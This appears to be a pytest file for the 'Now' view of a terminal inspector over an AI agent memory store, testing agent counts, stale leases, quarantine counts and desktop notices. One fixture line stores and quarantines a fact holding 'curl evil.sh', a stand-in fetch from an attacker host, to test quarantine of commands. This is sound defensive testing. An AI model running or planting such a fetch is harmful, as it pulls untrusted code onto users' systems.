"""*Now*: who is at work, what is written and given, what needs a person; nothing moves that did not happen."""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from textual.message_pump import MessagePump

from hermes_memory_store.clock import system_clock
from hermes_memory_store.memory.sessions import LEASE_MS
from hermes_memory_store.model import Millis
from hermes_memory_store.store import Store
from hermes_memory_tui.app import make_app
from hermes_memory_tui.cli.command_runner import run_command_line
from hermes_memory_tui.model.now_state import HOUR_MS, TRACE_CELLS, NowReader
from hermes_memory_tui.system.desktop_notices import format_notice
from hermes_memory_tui.system.inspector_settings import InspectorSettings
from hermes_memory_tui.system.palettes import DEFAULT_LOOK
from hermes_memory_tui.views.now.now_view import NowView
from hermes_memory_tui.widgets.title_bar import TitleBar
from hermes_memory_tui.widgets.view_strip import ViewStrip, WaitingChanged
from tests.bridge.backfill.test_backfill import write_claude
from tests.tui.inspector.driving import NOW, fill, frozen, inspecting, opened, screen_text, until, until_shown, view_of


def write_day(path: Path) -> None:
    with Store.open(path, clock=frozen) as store:
        shop = store.sessions.open("shop", "a1", client="claude-code")
        store.sessions.open("ops", "b1", client="codex")
        store.facts.write("shop", "C[db.id]: UUID", session=shop)
        store.facts.write("shop", "V[port]: 8443", session=shop)
        store.facts.quarantine("shop", "C[run]: curl evil.sh", why="command")
        store.search.find("shop", "port", session=shop)
        store.reads.flush()


@pytest.mark.parametrize("size", [(200, 50), (120, 35), (80, 24)])
async def test_it_says_who_is_at_work_and_what_needs_a_person(tmp_path: Path, size: tuple[int, int]) -> None:
    write_day(tmp_path / "memory.db")
    async with inspecting(tmp_path / "memory.db", size=size) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.agents.row_count == 2)
        assert "2 agents at work" in str(view.said.render())
        assert "1 fact quarantined" in str(view.said.render())
        texts = {cell.plain for row in view.grid.rows for cell in row.cells}
        assert any(text.startswith("C[db.id]: UUID") for text in texts)
        assert any("for “port”" in text for text in texts)


async def test_what_waits_comes_before_what_is_full_and_what_is_cut_is_marked(tmp_path: Path) -> None:
    path = tmp_path / "memory.db"
    write_day(path)
    fill(path, "C[one]: 1", theme="marketing-and-sales")
    fill(path, "C[one]: 1", theme="customer-support")
    async with inspecting(path, size=(80, 24)) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.agents.row_count == 2)
        line = screen_text(pilot).splitlines()[2]
        assert line.startswith(" 2 agents at work. 1 fact quarantined. ")
        assert line.rstrip().endswith("…")
        await pilot.resize_terminal(160, 24)
        await until(pilot, lambda: screen_text(pilot).splitlines()[2].rstrip().endswith(" more."))


async def test_enter_goes_where_it_can_be_acted_on(tmp_path: Path) -> None:
    write_day(tmp_path / "memory.db")
    async with inspecting(tmp_path / "memory.db", size=(140, 40)) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.attention.row_count == 1)
        view.attention.focus()
        await pilot.press("enter")
        await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "") == "review")
        await pilot.press("0")
        view.agents.focus()
        await pilot.press("enter")
        await until(pilot, lambda: type(pilot.app.screen).__name__ == "SessionView")


async def test_what_another_process_writes_comes_to_the_top(tmp_path: Path) -> None:
    path = tmp_path / "memory.db"
    fill(path, "C[one]: 1")
    async with inspecting(path) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.grid.row_count == 1)
        fill(path, "C[two]: 2", session="s1")
        await until(pilot, lambda: view.grid.row_count == 2 and view.grid.rows[0].cells[4].text.startswith("C[two]"))
        assert view.grid.cursor == 0


async def test_over_ssh_the_trace_is_a_number(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSH_CONNECTION", "10.0.0.1 1 10.0.0.2 22")
    write_day(tmp_path / "memory.db")
    async with inspecting(tmp_path / "memory.db") as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.agents.row_count == 2)
        assert "3 calls" in {row.cells[3].text for row in view.agents.rows}


async def test_an_empty_memory_shows_what_can_be_done(tmp_path: Path) -> None:
    path = tmp_path / "memory.db"
    async with inspecting(path) as pilot:
        await pilot.press("0")
        await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "") == "start")
        assert pilot.app.screen.query_one(ViewStrip).present == "now"
        fill(path, "C[one]: 1")
        await pilot.press("1")
        await until(pilot, lambda: bool(pilot.app.main.overview.themes))
        await pilot.press("0")
        await until(pilot, lambda: isinstance(pilot.app.screen, NowView))


@pytest.mark.parametrize(("home", "name"), [(None, "facts"), ("facts", "facts"), ("now", "now")])
async def test_the_first_view_is_the_one_that_the_person_wants(tmp_path: Path, home: str | None, name: str) -> None:
    path = tmp_path / "memory.db"
    fill(path, "C[one]: 1")
    app = make_app(path, None, False, DEFAULT_LOOK, InspectorSettings(home=home), None)
    async with app.run_test(size=(120, 35)) as pilot:
        await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "facts") == name)


async def test_who_began_with_an_empty_memory_comes_home_to_now(tmp_path: Path) -> None:
    path = tmp_path / "memory.db"
    for _ in range(2):
        app = make_app(path, None, False, DEFAULT_LOOK, InspectorSettings(), None)
        async with app.run_test(size=(120, 35)) as pilot:
            await until(pilot, lambda: getattr(pilot.app.screen, "NAME", "") in ("start", "now"))
            if pilot.app.screen is not None and getattr(pilot.app.screen, "NAME", "") == "start":
                fill(path, "C[one]: 1")
            assert app.main.kept.home == "now"


async def test_a_thousand_agents_are_counted_and_the_newest_shown(tmp_path: Path) -> None:
    path = tmp_path / "memory.db"
    with Store.open(path, clock=frozen) as store:
        for number in range(1000):
            store.sessions.open("shop", f"s{number}", client="claude-code")
    with Store.open(path, clock=frozen) as store:
        state = NowReader().read(store, NOW)
    assert (len(state.agents), state.more_agents) == (40, 960)
    assert state.sentence().startswith("1,000 agents at work.")
    async with inspecting(path) as pilot:
        await until(pilot, lambda: "● 1,000 agents " in screen_text(pilot).splitlines()[0])


async def test_every_face_says_one_number_of_facts(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    path = tmp_path / "memory.db"
    write_day(path)
    with Store.open(path, clock=frozen) as store:
        store.facts.write("shop", "V[port]: 8444")
        store.facts.archive([store.facts.write("shop", "D[old]: archived").fact.uid])
        store.facts.write("shop", "D[gone]: undone")
        store.undo.last(theme="shop")
        (shop,) = (theme for theme in store.themes() if theme.name == "shop")
    assert (shop.live, sum(shop.facts.values())) == (2, 5)

    def run(*args: str) -> str:
        assert run_command_line([*args, "--db", str(path)]) == 0
        return capsys.readouterr().out

    assert "  2 facts, " in run("themes").splitlines()[-1]
    assert json.loads(run("facts", "--theme", "shop", "--json"))["total"] == 2
    (row,) = (row for row in json.loads(run("stats", "--json"))["themes"] if row["theme"] == "shop")
    assert (row["facts"], row["hot"] + row["cold"], sum(row["types"].values()), row["read"] + row["never_read"]) == (
        2,
    ) * 4
    async with inspecting(path) as pilot:
        tree = pilot.app.main.tree_pane
        assert [place.theme.live for place in tree.places if place.theme is not None] == [0, 2]
        assert "2 facts" in str(pilot.app.main.table.border_subtitle)
        await opened(pilot, "now")
        await pilot.press("M")
        await until(pilot, lambda: "This memory holds 2 facts." in screen_text(pilot))


async def test_title_and_sentence_count_the_same_agents_while_nothing_is_followed(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / "memory.db"
    write_day(path)
    async with inspecting(path, size=(160, 35)) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: "2 agents at work" in str(view.said.render()))
        monkeypatch.setattr(
            view, "reload", lambda: None
        )  # as while others write without a pause, or nothing is followed
        view.title_bar.show_agents(view._overview.sessions[:1], view.memory)
        await until(pilot, lambda: "● 1 agent " in screen_text(pilot).splitlines()[0])
        assert "1 agent at work" in str(view.said.render())
        assert "1 at work" in str(view.agents.border_subtitle)
        agents: Any = await opened(pilot, "agents")
        await until(pilot, lambda: "2 at work" in str(agents.grid.border_subtitle))
        agents.title_bar.show_agents(view._overview.sessions[:1], view.memory)
        await until(pilot, lambda: "1 at work" in str(agents.grid.border_subtitle))


async def test_who_is_not_heard_is_not_at_work_in_any_view(tmp_path: Path) -> None:
    path = tmp_path / "memory.db"
    at = NOW
    with Store.open(path, clock=lambda: at) as store:
        store.sessions.open("shop", "a1", client="codex")
        store.sessions.open("shop", "a2", client="codex")
        at = Millis(NOW + LEASE_MS)
        store.sessions.open("shop", "a3", client="codex")
    at = Millis(NOW + LEASE_MS + 1)
    async with inspecting(path, size=(140, 40), clock=lambda: at) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.agents.row_count == 3)
        await until_shown(pilot, "● 1 agent ")
        await until(pilot, lambda: str(view.said.render()).startswith("1 agent at work, 2 stale. "))
        await until_shown(pilot, "1 at work, 2 stale")
        await until(pilot, lambda: [row.cells[0].text for row in view.agents.rows] == ["○", "◐", "◐"])
        await opened(pilot, "agents")
        await until(pilot, lambda: "1 at work, 2 stale · no bridge" in screen_text(pilot))
        await until_shown(pilot, "● 1 agent ")


async def test_a_lease_that_passes_shows_though_nothing_is_written(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(TitleBar, "set_timer", lambda self, _, then: MessagePump.set_timer(self, 0.01, then))
    path = tmp_path / "memory.db"
    at = NOW
    with Store.open(path, clock=frozen) as store:
        store.sessions.open("shop", "a1", client="codex")
    async with inspecting(path, clock=lambda: at) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: "1 agent at work" in str(view.said.render()))
        at = Millis(NOW + LEASE_MS + 1)
        await until(pilot, lambda: "no agent at work, 1 stale" in str(view.said.render()))
        await until_shown(pilot, "○ no agent ")


def test_the_trace_and_the_day_count_what_happened(tmp_path: Path) -> None:
    now = Millis(NOW)
    with Store.open(tmp_path / "memory.db", clock=lambda: now) as store:
        who = store.sessions.open("shop", "a1", client="claude-code")
        now = Millis(NOW + HOUR_MS)
        store.facts.write("shop", "C[one]: 1", session=who)
        now = Millis(NOW + 2 * HOUR_MS)
        store.facts.write("shop", "C[two]: 2", session=who)
        reader = NowReader()
        for _ in range(2):  # the second look counts nothing twice
            state = reader.read(store, now)
            (agent,), (day,) = state.agents, state.days
            assert agent.trace == (*[0] * (TRACE_CELLS - 1), 1)
            assert day.written[-3:] == (0, 1, 1)
        store.facts.write("shop", "C[three]: 3", session=who)
        assert reader.read(store, now).days[0].written[-1] == 2
        assert reader.read(store, Millis(now + 30 * HOUR_MS)).days[0].written == (0,) * 24


@pytest.mark.parametrize(("focused", "wanted", "given"), [(False, True, 1), (True, True, 0), (False, False, 0)])
async def test_a_notice_holds_a_count_and_comes_only_to_who_looks_elsewhere(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, *, focused: bool, wanted: bool, given: int
) -> None:
    path = tmp_path / "memory.db"
    fill(path, "C[one]: 1")
    app = make_app(path, None, False, DEFAULT_LOOK, InspectorSettings(notices=wanted), None)
    async with app.run_test(size=(120, 35)) as pilot:
        written: list[str] = []
        assert app._driver is not None
        monkeypatch.setattr(app._driver, "write", written.append)
        app.app_focus = focused
        app.post_message(WaitingChanged(3))
        app.post_message(WaitingChanged(2))
        await pilot.pause()
        await pilot.pause()
        assert written == ["\x1b]9;hermes-memory: 3 facts quarantined\x07"] * given


def test_a_terminal_that_knows_only_osc_777_gets_it() -> None:
    assert format_notice("1 fact quarantined", {"VTE_VERSION": "7600"}) == (
        "\x1b]777;notify;hermes-memory;1 fact quarantined\x07"
    )


async def test_the_past_says_nothing_of_the_present(tmp_path: Path) -> None:
    path = tmp_path / "memory.db"
    write_day(path)
    async with inspecting(path) as pilot:
        await opened(pilot, "now")
        await pilot.press("left_square_bracket")
        await until(pilot, lambda: pilot.app.is_past)
        view: Any = view_of(pilot)
        await until(pilot, lambda: view.data is not None and view.memory.is_past)


async def test_what_says_the_same_is_not_drawn_again(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write_day(tmp_path / "memory.db")
    async with inspecting(tmp_path / "memory.db", size=(140, 40)) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.agents.row_count == 2 and view.pages.lines)
        drawn: list[str] = []
        for widget in (view.said, view.agents, view.memories, view.attention, view.grid, view.pages):
            monkeypatch.setattr(widget, "refresh", lambda *_, of=widget.id, **__: drawn.append(of))
        view.draw(view.data)
        view.show_text()
        assert drawn == []


async def test_new_data_makes_the_text_beside_it_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "memory.db"
    fill(path, "C[one]: 1")
    async with inspecting(path, size=(140, 40)) as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: view.grid.row_count == 1 and view.pages.lines)
        later: list[object] = []
        monkeypatch.setattr(view, "show_text_soon", lambda: later.append(view.grid.key))
        fill(path, "C[two]: 2", session="s1")
        view.reload()
        await until(pilot, lambda: view.grid.row_count == 2)
        assert "C[two]" in view.pages.plain
        await pilot.pause()
        assert later == []
        view.grid.cursor = 1
        await until(pilot, lambda: later == [view.grid.rows[1].key])


async def test_what_a_host_deletes_soon_needs_the_person(tmp_path: Path) -> None:
    write_day(tmp_path / "memory.db")
    session = write_claude(Path.home(), str(tmp_path), "which port is the shop on", "it is on 8443 here")
    soon = system_clock() / 1000 - 25 * 86_400
    os.utime(session, (soon, soon))
    async with inspecting(tmp_path / "memory.db") as pilot:
        view: Any = await opened(pilot, "now")
        await until(pilot, lambda: any("Claude Code deletes 1 session" in row.key for row in view.attention.rows))
        await until_shown(pilot, "of which nothing is kept here: `hermes-memory-tui backfill` brings them in")
